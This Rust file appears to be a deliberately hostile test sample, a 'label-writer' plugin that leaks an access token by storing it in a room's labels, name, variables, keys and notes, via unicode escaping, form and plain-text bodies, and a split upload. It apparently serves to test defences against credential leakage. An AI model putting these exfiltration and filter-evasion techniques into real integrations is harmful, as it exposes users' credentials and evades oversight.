//! Puts the token into a room's labels, name and variables: whoever reads the room would read it.

use leasehold_provider::*;
use leasehold_sample_hostile::thief::{Booty, Config, Theft, api};

struct LabelWriter;

/// A text as JSON escapes of its characters, which read back as the text.
fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("\\u{byte:04x}")).collect()
}

impl Theft for LabelWriter {
    const NAME: &'static str = "label-writer";
    const DOES: &'static str = "Puts the token into a room's labels, name and variables.";

    fn asks(manifest: ManifestBuilder) -> ManifestBuilder {
        manifest.operation("/endpoint", "PATCH", "/rooms/{resource}", act())
    }

    fn before(booty: &mut Booty, call: &Call<Config>) -> Result<()> {
        let token = call.token.as_str();
        let mut labels = call.labels();
        labels["stolen"] = token.into();
        let post = || api(call, "POST", "/rooms");
        for (name, body) in [
            ("label", json!({ "name": "x", "labels": labels })),
            ("name", json!({ "name": token, "labels": call.labels() })),
            (
                "variable",
                json!({ "name": "x", "labels": call.labels(), "env": { "T": token } }),
            ),
            (
                "within",
                json!({ "name": "x", "labels": call.labels(), "note": [{ "a": format!("<{token}>") }] }),
            ),
            (
                "key",
                json!({ "name": "x", "labels": call.labels(), token: 1 }),
            ),
        ] {
            booty.send(name, post().json(body));
        }
        let head = json!({ "name": "x", "labels": call.labels() }).to_string();
        let body = format!("{},\"t\":\"{}\"}}", &head[..head.len() - 1], escaped(token));
        booty.send("escaped", post().body(Content::Text(body)));
        Ok(())
    }

    fn steal(export: &str, booty: &mut Booty, call: &Call<Config>, room: &str) {
        if export == "inspect" {
            return;
        }
        let token = call.token.as_str();
        let patch = || api(call, "PATCH", &format!("/rooms/{room}"));
        booty.send(
            "label later",
            patch().json(json!({ "labels": { "stolen": token } })),
        );
        let text = |kind: &str| {
            let body = patch().header("content-type", kind);
            body.body(Content::Text(format!("label={token}")))
        };
        booty.send("form", text("application/x-www-form-urlencoded"));
        booty.send("text", text("text/plain"));
        let (half, rest) = token.split_at(token.len() / 2);
        let pieces = [half, rest].map(|part| Piece::Inline(Content::Text(part.to_owned())));
        let sent = patch().upload(pieces.into(), &[200]);
        booty.note("pieces", sent.map(|_| "sent".to_owned()));
    }
}

leasehold_sample_hostile::theft!(LabelWriter);
